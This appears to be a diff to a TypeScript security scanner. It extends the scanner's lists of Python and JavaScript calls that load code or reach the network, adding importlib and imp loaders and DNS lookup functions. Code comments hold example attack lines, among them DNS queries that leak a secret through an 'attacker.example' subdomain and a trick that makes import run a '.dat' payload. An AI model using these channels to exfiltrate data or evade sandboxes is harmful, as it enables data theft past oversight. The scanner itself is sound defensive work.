@@ -79,8 +79,30 @@ export const EVALUATORS: Readonly<Record<ScanLanguage, Readonly<Record<string, E
     "runpy.run_path": { reads: "file" },
     "runpy.run_module": { reads: "file" },
     "importlib.machinery.SourceFileLoader": { reads: "file" },
+    "importlib.machinery.SourcelessFileLoader": { reads: "file" },
+    "importlib.machinery.ExtensionFileLoader": { reads: "file" },
+    // A finder for a folder, with the loaders and suffixes it is given (`FileFinder(d, (SourceFileLoader, [".dat"]))`).
+    "importlib.machinery.FileFinder": { reads: "file" },
+    "importlib.machinery.FileFinder.path_hook": { reads: "file" },
+    // Import reading other suffixes as source (`SOURCE_SUFFIXES.append(".dat")`, then `import payload` runs payload.dat).
+    "importlib.machinery.SOURCE_SUFFIXES.append": { reads: "file" },
+    "importlib.machinery.SOURCE_SUFFIXES.extend": { reads: "file" },
+    "importlib.machinery.SOURCE_SUFFIXES.insert": { reads: "file" },
+    // importlib.machinery's classes where they are defined.
+    "importlib._bootstrap_external.SourceFileLoader": { reads: "file" },
+    "importlib._bootstrap_external.SourcelessFileLoader": { reads: "file" },
+    "importlib._bootstrap_external.ExtensionFileLoader": { reads: "file" },
+    "importlib._bootstrap_external.FileFinder": { reads: "file" },
+    "importlib._bootstrap_external.spec_from_file_location": { reads: "file" },
     "importlib.util.spec_from_file_location": { reads: "file" },
+    // A zip archive's module run (the archive alone is read for data: pkg_resources, pip).
+    "zipimport.zipimporter().load_module": { reads: "file" },
+    "zipimport.zipimporter().exec_module": { reads: "file" },
     "imp.load_source": { reads: "file" },
+    "imp.load_compiled": { reads: "file" },
+    "imp.load_dynamic": { reads: "file" },
+    "imp.load_module": { reads: "file" },
+    "imp.load_package": { reads: "file" },
     // A native library loaded: its functions run outside anything the scan reads (`ctypes.CDLL(None).system(b"…")`).
     "ctypes.CDLL": { reads: "file" },
     "ctypes.PyDLL": { reads: "file" },
@@ -131,7 +153,7 @@ export const EVALUATORS: Readonly<Record<ScanLanguage, Readonly<Record<string, E
 
 /** The modules whose members EVALUATORS lists, by language; any other JavaScript target is a global's (`eval`, `process.dlopen`). */
 const EVALUATOR_MODULES: Readonly<Record<ScanLanguage, readonly string[]>> = {
-  python: ["builtins", "runpy", "importlib.machinery", "importlib.util", "imp", "pickle", "dill", "ctypes", "code"],
+  python: ["builtins", "runpy", "importlib.machinery", "importlib._bootstrap_external", "importlib.util", "zipimport", "imp", "pickle", "dill", "ctypes", "code"],
   javascript: ["vm", "worker_threads", "repl", "inspector", "inspector/promises"],
 };
 const moduleOf = (language: ScanLanguage, target: string) => EVALUATOR_MODULES[language].find((module) => target.startsWith(`${module}.`));
@@ -163,6 +185,10 @@ const socketUse = (cls: string) => call(...SOCKET_USE.flatMap((m) => [`${cls}${R
 const EVENT_LOOPS = ["get_running_loop", "get_event_loop", "new_event_loop"];
 /** requests' and httpx's module-level request functions. */
 const HTTP_FUNCTIONS = ["request", "get", "options", "head", "post", "put", "patch", "delete"];
+/** An event loop's lookups (`loop.getaddrinfo(host, port)`). */
+const LOOP_LOOKUPS = ["getaddrinfo", "getnameinfo"];
+/** Node's dns lookups, by callback (`dns`) or promise (`dns/promises`, `dns.promises`), and a Resolver's. */
+const DNS_QUERIES = ["lookup", "lookupService", "resolve", "resolve4", "resolve6", "resolveAny", "resolveCaa", "resolveCname", "resolveMx", "resolveNaptr", "resolveNs", "resolvePtr", "resolveSoa", "resolveSrv", "resolveTxt", "reverse"];
 const LOOP_CONNECT = ["create_connection", "create_unix_connection", "create_datagram_endpoint", "sock_connect"];
 /** ... and start processes (`loop.subprocess_exec(protocol_factory, "ls")`). */
 const LOOP_SUBPROCESS = ["subprocess_exec", "subprocess_shell"];
@@ -261,6 +287,14 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   py("socks", { ...call("create_connection"), ...inert("socksocket"), ...socketUse("socksocket") }, "network"),
   py("aiohttp", { ...client("ClientSession"), ...call("request") }, "network"),
   py("socket", { ...call("create_connection"), ...inert("socket"), ...socketUse("socket") }, "network"),
+  // A name looked up sends a DNS query (a channel out of the sandbox: `loop.getaddrinfo(f"{secret}.attacker.example", 80)`).
+  py("asyncio", call(...EVENT_LOOPS.flatMap((l) => LOOP_LOOKUPS.map((m) => `${l}${RETURNED}.${m}`))), "network"),
+  // dnspython: queries through the system's resolvers, or sent to a server named (`dns.query.udp(q, "1.2.3.4")`).
+  py("dns.resolver", { ...call("resolve", "query", "resolve_address", "resolve_name", "zone_for_name"), ...client("Resolver") }, "network"),
+  py("dns.asyncresolver", { ...call("resolve", "resolve_address", "resolve_name", "zone_for_name"), ...client("Resolver") }, "network"),
+  py("dns.query", call("udp", "tcp", "tls", "https", "quic", "udp_with_fallback", "xfr", "inbound_xfr"), "network"),
+  py("aiodns", client("DNSResolver"), "network"),
+  py("pycares", client("Channel"), "network"),
   py("websockets", call("connect", "client.connect", "sync.client.connect", "asyncio.client.connect"), "network"),
   // pycurl: a Curl handle (or a multi handle driving several) is the client that performs the transfers.
   py("pycurl", client("Curl", "CurlMulti"), "network"),
@@ -349,6 +383,9 @@ export const DEFAULT_SPECS: readonly BoundarySpec[] = [
   js("http2", call("connect"), "network", "call"),
   js("net", call("connect", "createConnection"), "network", "call"),
   js("tls", call("connect"), "network", "call"),
+  // A DNS query leaves the sandbox (`dns.resolveTxt(\`${secret}.attacker.example\`)`); a Resolver made is one to query with.
+  js("dns", { ...call(...DNS_QUERIES, ...DNS_QUERIES.map((m) => `promises.${m}`)), ...client("Resolver", "promises.Resolver") }, "network"),
+  js("dns/promises", { ...call(...DNS_QUERIES), ...client("Resolver") }, "network"),
   // A UDP socket crosses when it sends a datagram or connects to a peer, not when it is made (as Python's socket).
   js("tcp_wrap", client("TCP"), "network", "new"),
   js("pipe_wrap", client("Pipe"), "network", "new"),
